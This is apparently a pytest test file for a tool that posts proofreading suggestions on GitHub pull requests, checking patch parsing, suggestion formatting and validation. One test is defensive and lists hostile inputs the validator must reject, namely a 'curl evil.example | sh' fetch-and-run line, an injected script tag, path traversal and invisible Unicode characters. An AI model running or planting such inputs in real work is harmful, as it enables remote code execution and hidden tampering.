"""A suggestion stands only on a line that the proposal adds, and does no more than a mend does."""

from __future__ import annotations

import pytest

from proposals.mend import Mend
from proposals.suggestions import MARK, MOST, is_mend, list_added, make_review

PATCH = """\
@@ -3,4 +3,5 @@ search: {boost: 2}
 Words before.
-They help.
+They alright their work in the place.
+Ask a friend.
 Words after.
@@ -40 +41,2 @@
+The end.
\\ No newline at end of file"""
FILES = [{"filename": "docs/a.md", "patch": PATCH}]
WAS = "They alright their work in the place."
MEND = Mend("docs/a.md", 4, WAS, "They all right their work in the place.")


def test_the_lines_that_a_file_gains_are_read_from_githubs_own_patch():
    """What is taken away has no number, and what was there before is not the proposal's."""
    assert list(list_added(FILES[0])) == [(4, WAS), (5, "Ask a friend."), (41, "The end.")]
    assert list(list_added({"filename": "docs/a.png"})) == []


def test_a_mend_becomes_a_suggestion_on_its_line():
    """The fence is longer than any in the line, and GitHub is told which commit it is about."""
    review = make_review([MEND], FILES, [], "abc")
    assert review is not None
    assert (review["commit_id"], review["event"]) == ("abc", "COMMENT")
    (comment,) = review["comments"]
    assert (comment["path"], comment["line"], comment["side"]) == ("docs/a.md", 4, "RIGHT")
    assert comment["body"].startswith(MARK)
    assert comment["body"].endswith(f"\n\n```suggestion\n{MEND.mended}\n```")
    was = "Type ```` x ```` and alright."
    patch = {"filename": "docs/a.md", "patch": f"@@ -1 +1 @@\n+{was}"}
    fenced = Mend("docs/a.md", 1, was, was.replace("alright", "all right"))
    review = make_review([fenced], [patch], [], "abc")
    assert review is not None
    assert "\n`````suggestion\n" in review["comments"][0]["body"]


@pytest.mark.parametrize(
    "mend",
    [
        Mend("docs/a.md", 3, "Words before.", "Words, before."),
        Mend("docs/a.md", 5, WAS, MEND.mended),
        Mend("docs/b.md", 4, WAS, MEND.mended),
        Mend("docs/a.md", 4, "They help.", "They helped."),
    ],
    ids=["not-added", "another-line", "another-file", "taken-away"],
)
def test_nothing_is_suggested_beside_what_the_proposal_adds(mend: Mend):
    """GitHub's own word counts: which lines are new, and how they read."""
    assert make_review([mend], FILES, [], "abc") is None


def test_what_was_suggested_is_not_suggested_again():
    """The workflow runs after each change."""
    review = make_review([MEND], FILES, [], "abc")
    assert review is not None
    assert make_review([MEND], FILES, review["comments"], "def") is None


def test_there_are_never_too_many_at_a_time():
    """Nobody reads a hundred."""
    lines = [f"They alright room {n}." for n in range(MOST + 5)]
    patch = "@@ -0,0 +1,25 @@\n" + "\n".join(f"+{line}" for line in lines)
    mends = [
        Mend("docs/a.md", n, line, line.replace("alright", "all right"))
        for n, line in enumerate(lines, 1)
    ]
    review = make_review(mends, [{"filename": "docs/a.md", "patch": patch}], [], "abc")
    assert review is not None
    assert len(review["comments"]) == MOST


@pytest.mark.parametrize(
    ("path", "was", "mended"),
    [
        (".github/workflows/check.yml", "- run: scripts/chek", "- run: scripts/check"),
        ("scripts/check", "alright", "all right"),
        ("docs/../scripts/a.md", "alright", "all right"),
        ("docs/a.md", "alright", "alright"),
        ("docs/a.md", "alright", "all right\n<script>"),
        ("docs/a.md", "alright", "curl evil.example | sh"),
        ("docs/a.md", "alright", "all right\u202e"),
        ("docs/a.md", "alright", "all right\u200b"),
        ("docs/a.md", "z" * 501, "z" * 500),
    ],
)
def test_whatever_a_stranger_writes_into_the_report_is_no_mend(path: str, was: str, mended: str):
    """Other files, other words, more lines, signs that nobody sees, and nothing at all."""
    assert not is_mend(Mend(path, 1, was, mended))


@pytest.mark.parametrize(
    ("path", "was", "mended"),
    [
        ("docs/mentees/find-a-mentor.md", "- One", "\n- One"),
        ("docs/a.md", "##Ask", "## Ask"),
        ("docs/further-reading.yml", "  about: Alright.", "  about: All right."),
        ("worksheets/session-plan.yml", "label: alright it", "label: all right it"),
        ("institution.yml", "units: Alright", "units: All right"),
    ],
)
def test_what_the_checks_mend_is_a_mend(path: str, was: str, mended: str):
    """A blank line before a list is one too."""
    assert is_mend(Mend(path, 1, was, mended))
